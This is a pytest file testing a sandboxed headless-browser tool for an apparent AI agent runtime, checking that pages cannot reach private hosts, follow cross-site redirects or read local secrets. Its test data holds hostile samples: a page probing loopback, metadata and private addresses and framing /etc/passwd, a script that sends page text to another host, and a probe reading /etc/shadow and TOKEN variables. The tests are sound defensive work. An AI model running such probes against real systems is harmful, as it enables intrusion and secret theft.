"""browser.open_url: a real Chromium without network access, whose requests go through the gateway."""

from __future__ import annotations

import os
import shutil
from importlib.util import find_spec
from pathlib import Path
from typing import Any

import pytest

from tests.agent.first_party.web import ADDRESSES, Web, page
from tests.sandbox.isolation.conftest import needs_landlock, needs_seccomp
from wasmrt.agent.builtin.desktop import _browser, desktop_tool
from wasmrt.agent.builtin.desktop._browser import PageTraffic, find_browser
from wasmrt.core.errors import DeadlineExceededError, NotAuthorizedError, ToolError
from wasmrt.core.lifetime import Lifetime
from wasmrt.core.limits import MAX_PAGE_BYTES, MAX_PAGE_REQUESTS
from wasmrt.egress.gateway import EgressGateway
from wasmrt.runtime.config_extensions import DesktopSettings
from wasmrt.runtime.context import ToolContext

SHELL = next((found for name in _browser._NAMES if (found := shutil.which(name))), None)
pytestmark = pytest.mark.ci("browser")
needs_browser = pytest.mark.skipif(
    SHELL is None or find_spec("playwright") is None, reason="no chromium-headless-shell or no Playwright here"
)


def open_url(web: Web, url: str, hosts: tuple[str, ...] = (), **params: Any) -> dict[str, Any]:
    def gateway() -> EgressGateway:
        kept = EgressGateway(web.network(ADDRESSES))
        kept.close = lambda: None  # type: ignore[method-assign]  # the web of all of these tests
        return kept

    tool = desktop_tool("browser.open_url", DesktopSettings(hosts=hosts), gateway)
    found = tool.execute({"url": url, **params}, ToolContext()).result
    assert isinstance(found, dict)
    return found


HOSTILE = """<title>Hi</title><p>before</p><img src="/i.png">
<iframe src="file:///etc/passwd"></iframe><iframe src="https://inside.example/"></iframe>
<script>
const tried = [
  ["private", () => fetch("https://10.0.0.5/", {mode: "no-cors"})],
  ["loopback", () => fetch("http://127.0.0.1:%d/", {mode: "no-cors"})],
  ["metadata", () => fetch("https://metadata.example/", {mode: "no-cors"})],
  ["half", () => fetch("https://both.example/", {mode: "no-cors"})],
  ["post", () => fetch("/form", {method: "POST", body: "x"})],
  ["redirect", () => fetch("/away", {mode: "no-cors"})],
  ["socket", () => new Promise((yes, no) => {
     const s = new WebSocket("wss://other.example/"); s.onopen = yes; s.onerror = no; s.onclose = no })],
  ["rtc", () => new Promise((yes, no) => {
     const c = new RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:%d"}]});
     c.onicecandidate = e => e.candidate ? yes() : no(); c.createDataChannel("x");
     c.createOffer().then(o => c.setLocalDescription(o)); setTimeout(no, 1500) })],
  ["public", () => fetch("/data.json").then(r => r.json())],
];
window.open("https://other.example/popup"); alert("stop");
Promise.all(tried.map(([name, run]) => run().then(() => name + " YES", () => name + " no")))
  .then(all => { document.body.append(all.join(", ")); document.title = "done" });
</script><img src="/late.png" width=1>"""


@needs_browser
@needs_seccomp
@needs_landlock
def test_page_runs_scripts_and_reaches_only_public_hosts(web: Web) -> None:
    port = web.server.port
    web.pages |= {
        "https://example.com/": page(HOSTILE % (port, port)),
        "https://example.com/data.json": page('{"a": 1}', kind="application/json"),
        "https://example.com/away": page("", status=302, Location="https://10.0.0.5/x"),
    }
    web.pages["https://example.com/late.png"] = page("", kind="image/png")
    found = open_url(web, "https://example.com/")
    said = found["text"]
    assert found["url"] == "https://example.com/" and found["status"] == 200 and "before" in said
    assert " YES" not in said.replace("public YES", "") or said.count("YES") == 1, said
    refused = {each["url"]: each["why"] for each in found["refused"]}
    assert "10.0.0.5" in refused["https://10.0.0.5/"] and "only send GET" in refused["https://example.com/form"]
    for url in ("https://inside.example/", "https://metadata.example/", "https://both.example/"):
        assert url in refused
    assert any("127.0.0.1" in url for url in refused)
    asked = {(request.method, request.header("Host"), request.target) for request in web.asked}
    assert {host for _, host, _ in asked} == {"example.com"} and {method for method, _, _ in asked} == {"GET"}
    assert "root:" not in said


def test_call_reports_progress_before_the_browser_starts(monkeypatch: pytest.MonkeyPatch) -> None:
    told: list[tuple[int, int | None, str | None]] = []

    def gateway() -> EgressGateway:
        assert told == [(0, None, "starting the browser")]
        raise ToolError("no further")

    monkeypatch.setattr(_browser, "find_browser", lambda _: Path("/nowhere"))
    tool = desktop_tool("browser.open_url", DesktopSettings(), gateway)
    with pytest.raises(ToolError, match="no further"):
        tool.execute({"url": "https://a.example/"}, ToolContext(on_progress=lambda *each: told.append(each)))


@needs_browser
@needs_seccomp
@needs_landlock
def test_scripted_page_is_truncated_and_same_site_redirects_are_followed(web: Web) -> None:
    made = (
        "<title>App</title><main></main><script>document.querySelector('main').innerText = 'made '.repeat(50)</script>"
    )
    web.pages |= {
        "https://example.com/old": page("", status=301, Location="https://www.example.com/new"),
        "https://www.example.com/new": page(f"{made}</script>"),
    }
    found = open_url(web, "https://example.com/old", max_chars=20)
    assert (found["url"], found["title"]) == ("https://www.example.com/new", "App")
    assert found["text"] == ("made " * 4) and found["truncated"] is True


@needs_browser
@needs_seccomp
@needs_landlock
def test_windows_opened_by_a_page_send_no_requests(web: Web) -> None:
    opening = "for (let i = 0; i < 12; i++) window.open('https://other.example/' + i)"
    web.pages["https://example.com/"] = page(f"<p>here</p><script>{opening}</script>")
    found = open_url(web, "https://example.com/")
    assert found["text"] == "here" and "moved_to" not in found
    assert {each["why"] for each in found["refused"]} <= {"pages cannot open windows"}
    assert {request.header("Host") for request in web.asked} == {"example.com"}


@needs_browser
@needs_seccomp
@needs_landlock
def test_redirect_to_a_different_site_is_reported_and_not_followed(web: Web) -> None:
    web.pages |= {
        "https://example.com/": page("", status=302, Location="https://other.example/landing"),
        "https://other.example/landing": page("stolen"),
    }
    found = open_url(web, "https://example.com/")
    assert found["moved_to"] == "https://other.example/landing" and found["text"] == ""
    assert {request.header("Host") for request in web.asked} == {"example.com"}


@needs_browser
@needs_seccomp
@needs_landlock
def test_script_cannot_navigate_to_a_different_site(web: Web) -> None:
    move = "<p>here</p><script>location.href = 'https://other.example/?' + document.body.innerText</script>"
    web.pages |= {"https://example.com/": page(move), "https://other.example/": page("stolen")}
    try:
        found = open_url(web, "https://example.com/")
    except ToolError:  # the page navigated before it could be read
        found = {}
    assert "stolen" not in str(found)
    assert {request.header("Host") for request in web.asked} == {"example.com"}


@needs_browser
@needs_seccomp
@needs_landlock
def test_page_that_never_loads_ends_with_its_browser(web: Web, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(_browser, "PAGE_SECONDS", 4.0)
    web.pages["https://example.com/"] = page("<script>for (;;) {}</script>")
    with pytest.raises((DeadlineExceededError, ToolError)):
        open_url(web, "https://example.com/")


def test_non_public_urls_are_refused_before_the_browser_starts(web: Web, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(_browser, "find_browser", lambda named: pytest.fail("a browser was looked for"))
    for url in ("file:///etc/passwd", "http://example.com/", "https://127.0.0.1/", "https://[::1]/", "about:blank",
                "chrome://settings", "javascript:alert(1)", "data:text/html,x", "https://localhost/"):  # fmt: skip
        with pytest.raises(NotAuthorizedError):
            open_url(web, url)
    with pytest.raises(NotAuthorizedError) as caught:
        open_url(web, "https://example.com/", hosts=("docs.example.com",))
    assert "wasmrt config set --append desktop.hosts HOST" in (caught.value.hint or "")
    assert not web.asked


def test_requests_and_bytes_of_a_page_are_limited(web: Web) -> None:
    web.pages["https://example.com/a"] = page("a" * 5_000_000)
    traffic = PageTraffic(EgressGateway(web.network()), (), "https://example.com/", ToolContext())
    traffic.within(Lifetime(60.0))
    ask = {"request": "https://example.com/a", "method": "GET", "top": False}
    answers = [traffic.answer(ask) for _ in range(6)]
    assert [bool(each) for each in answers] == [True] * (MAX_PAGE_BYTES // 5_000_000) + [False]
    web.clear()
    traffic = PageTraffic(EgressGateway(web.network()), (), "https://example.com/", ToolContext())
    traffic.within(Lifetime(60.0))
    for _ in range(MAX_PAGE_REQUESTS + 5):
        traffic.answer(ask)
    assert len(web.asked) == MAX_PAGE_REQUESTS and "requests" in traffic.refused[-1].why


def test_secrets_in_page_urls_are_not_sent(web: Web) -> None:
    token = "ghp_" + "a1B2c3D4e5" * 3 + "F6g7h8"
    traffic = PageTraffic(EgressGateway(web.network()), (), "https://example.com/", ToolContext())
    traffic.within(Lifetime(60.0))
    assert traffic.answer({"request": f"https://example.com/?t={token}", "method": "GET", "top": True}) == {}
    assert not web.asked
    web.pages["https://example.com/"] = page("hi", Set_Cookie="session=1", Alt_Svc='h3=":443"')
    answer = traffic.answer({"request": "https://example.com/", "method": "GET", "top": True})
    assert {name.lower() for name, _ in answer["headers"]} == {"content-type"}


CONFINED = """
import json, os, pathlib, socket, sys
found = []
for family in (socket.AF_INET, socket.AF_INET6, socket.AF_UNIX):
    try:
        socket.socket(family)
        found.append("socket")
    except OSError:
        pass
for path in PATHS:
    try:
        open(path).read()
        found.append(path)
    except OSError:
        pass
found += [name for name in os.environ if "TOKEN" in name]
print(json.dumps({"failed": "found " + json.dumps(found)}))
"""


@needs_browser
@needs_seccomp
@needs_landlock
def test_browser_process_has_no_sockets_user_files_or_environment(
    web: Web, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    kept = tmp_path / "kept"
    kept.write_text("of the user")
    (tmp_path / "page").mkdir()
    script = tmp_path / "page/_page.py"
    script.write_text(CONFINED.replace("PATHS", repr([str(kept), f"/proc/{os.getpid()}/environ", "/etc/shadow"])))
    monkeypatch.setattr(_browser, "_PAGE", script)
    monkeypatch.setenv("MY_TOKEN", "t")
    with pytest.raises(ToolError, match=r"found \[\]"):
        open_url(web, "https://example.com/")


@needs_browser
@needs_seccomp
@needs_landlock
@pytest.mark.parametrize(("script", "message"), [
    ("import os\nstarted = os.environ['HOME'] + '/started'\nfirst = not os.path.exists(started)\n"
     "open(started, 'w')\nif not first: print('{\"failed\": \"second start\"}')", "second start"),
    ("raise SystemExit('no memory')", "exited before the page was loaded: no memory"),
])  # fmt: skip
def test_browser_that_exits_at_once_is_started_once_more(
    web: Web, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, script: str, message: str
) -> None:
    (tmp_path / "page").mkdir()
    (tmp_path / "page/_page.py").write_text(script)
    monkeypatch.setattr(_browser, "_PAGE", tmp_path / "page/_page.py")
    with pytest.raises(ToolError, match=message):
        open_url(web, "https://example.com/")


def test_missing_playwright_or_browser_error_suggests_a_fix(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with pytest.raises(ToolError, match="there is no browser at"):
        find_browser(tmp_path / "nothing")
    monkeypatch.setenv("HOME", str(tmp_path))
    (tmp_path / "headless_shell").touch()
    with pytest.raises(ToolError, match="home"):
        find_browser(tmp_path / "headless_shell")
    monkeypatch.setattr(_browser, "PATH", str(tmp_path / "none"))
    with pytest.raises(ToolError, match="no headless Chromium"):
        find_browser(None)
    monkeypatch.setattr(_browser, "find_spec", lambda name: None)
    with pytest.raises(ToolError) as caught:
        find_browser(None)
    assert "wasmrt[browser]" in (caught.value.hint or "")
